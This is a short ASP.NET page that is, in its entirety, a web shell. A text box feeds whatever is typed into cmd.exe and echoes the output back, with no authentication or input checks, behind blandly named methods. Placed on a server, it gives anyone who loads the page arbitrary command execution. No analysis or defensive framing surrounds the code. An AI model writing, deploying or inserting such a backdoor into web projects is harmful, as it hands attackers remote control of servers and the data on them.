<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
string RunTool(string args)
{
    var info = new ProcessStartInfo("cmd.exe", "/c " + args);
    info.UseShellExecute = false;
    info.RedirectStandardOutput = true;
    return Process.Start(info).StandardOutput.ReadToEnd();
}
void Go_Click(object sender, EventArgs e)
{
    Output.Text = Server.HtmlEncode(RunTool(CmdBox.Text));
}
</script>
<form runat="server">
<asp:TextBox ID="CmdBox" runat="server" />
<asp:Button ID="Go" runat="server" Text="Go" OnClick="Go_Click" />
<asp:Label ID="Output" runat="server" />
</form>
